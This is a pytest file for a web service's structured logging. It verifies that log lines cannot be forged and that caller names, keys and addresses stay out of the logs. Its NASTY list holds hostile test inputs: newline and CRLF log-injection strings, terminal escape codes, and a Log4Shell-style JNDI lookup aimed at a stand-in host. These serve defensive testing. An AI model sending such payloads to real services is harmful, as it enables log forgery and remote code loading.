"""The log: a line is a record and nobody can forge one; of what callers send, and of who they are, nothing is in it."""

from __future__ import annotations

import json
import logging
from collections.abc import Iterator
from io import StringIO
from typing import Any

import pytest
from sqlalchemy import insert

from service.logs import JsonLines, configure
from service.storage.columns import now
from service.storage.ids import new_id
from service.storage.tables import organisations
from tests.service.stored import Service, name_of, small


class Log:
    """What was logged, as the service writes it."""

    def __init__(self) -> None:
        self.out = StringIO()

    @property
    def records(self) -> list[dict[str, Any]]:
        text = self.out.getvalue()
        assert text.isascii()
        assert not set(text) & set(map(chr, range(32))) - {"\n"}
        lines = text.split("\n")
        assert lines.pop() == ""
        return [json.loads(line) for line in lines]


@pytest.fixture
def log() -> Iterator[Log]:
    found, root = Log(), logging.getLogger()
    handlers, level = root.handlers[:], root.level
    root.handlers.clear()
    configure("info")
    (handler,) = root.handlers
    assert isinstance(handler, logging.StreamHandler)
    handler.setStream(found.out)
    yield found
    root.handlers[:] = handlers
    root.setLevel(level)


NASTY = [
    'x\n{"level": "critical", "message": "all is lost"}',
    "x\r\nlevel=critical",
    "x\x1b[2J\x1b[31mred",
    "x\u2028y\u0085z\x00",
    "${jndi:ldap://elsewhere.example/a}",
]


def test_nobody_forges_a_line(stored: Service, log: Log) -> None:
    for text in NASTY:
        stored.client.get(f"/v1/rules/{_quoted(text)}")
        stored.client.get(f"/{_quoted(text)}?{_quoted(text)}={_quoted(text)}")
        stored.submit(small(title=text), **{"X-Request-ID": text.encode(), "User-Agent": text.encode()})  # type: ignore[arg-type]
        logging.getLogger("safeconduct.service").warning("a text of somebody's", extra={"text": text})
        try:
            raise ValueError(text)
        except ValueError:
            logging.getLogger("safeconduct.service").exception("a failure")
    found = log.records
    assert {each["message"] for each in found} == {"request", "a text of somebody's", "a failure"}
    assert {each["level"] for each in found} <= {"info", "warning", "error"}
    assert [each["text"] for each in found if "text" in each] == NASTY  # whole, in one line


def test_nothing_of_a_caller_is_logged(stored: Service, log: Log, monkeypatch: pytest.MonkeyPatch) -> None:
    name = "Mustermann"
    data = small(title=f"Survey of {name}")
    data["parties"][0]["name"] = f"Institute {name}"
    headers = {"User-Agent": name, "Idempotency-Key": name}
    made = name_of(stored.submit(data, **headers))
    key = stored.key("reader")
    stored.submit(small(), **headers)
    stored.ask("GET", f"/v1/evaluations?title={name}", "reader")
    stored.ask("GET", f"/v1/evaluations/{name}", "reader")
    stored.ask("GET", f"/v1/evaluations/{made}", "reader")
    stored.ask("GET", f"/people/{name}")
    stored.ask(name.upper(), "/v1/evaluations")
    stored.submit({"title": name, "parties": name})

    def fail(*_: Any, **__: Any) -> Any:
        raise RuntimeError(f"no rule for {name}")

    monkeypatch.setattr("service.evaluating.decide", fail)
    data["title"] = f"Another survey of {name}"  # what was decided before is remembered
    assert stored.submit(data).status_code == 500
    monkeypatch.undo()

    def fail_again(*_: Any, **__: Any) -> Any:
        # The database repeats values in its messages.
        row = {"id": stored.principal(key).organisation, "name": name, "created_at": now()}
        stored.database.write(lambda connection: connection.execute(insert(organisations).values(row)))

    monkeypatch.setattr("service.records.answering.keep", fail_again)
    assert stored.submit(data).status_code == 500
    text = log.out.getvalue()
    assert name.lower() not in text.lower()
    assert key not in text
    assert "testclient" not in text  # the address of the client
    failures = [each["exception"] for each in log.records if "exception" in each]
    assert failures[0].endswith("\nbuiltins.RuntimeError")
    assert "service/evaluating.py" in failures[0]
    assert failures[1].endswith("\nsqlalchemy.exc.IntegrityError")
    (read,) = [each for each in log.records if each.get("object") == made]
    assert (read["path"], read["status"]) == ("/v1/evaluations/{id}", 200)


def test_a_failure_of_the_system_says_which_and_debugging_says_all() -> None:
    record = logging.makeLogRecord({})
    try:
        try:
            raise FileNotFoundError(2, "not there", "/home/mustermann")
        except OSError:
            raise KeyError(new_id("ev") + " mustermann") from None
    except KeyError as error:
        record.exc_info = (type(error), error, error.__traceback__)
    assert "mustermann" not in JsonLines().format(record)
    assert "FileNotFoundError" not in JsonLines().format(record)
    assert "mustermann" in JsonLines(with_messages=True).format(record)
    failure = OSError(28, "no space", "/home/mustermann")
    record.exc_info = (type(failure), failure, None)
    assert json.loads(JsonLines().format(record))["exception"] == "builtins.OSError 28"


def _quoted(text: str) -> str:
    return "".join(f"%{byte:02x}" for byte in text.encode())
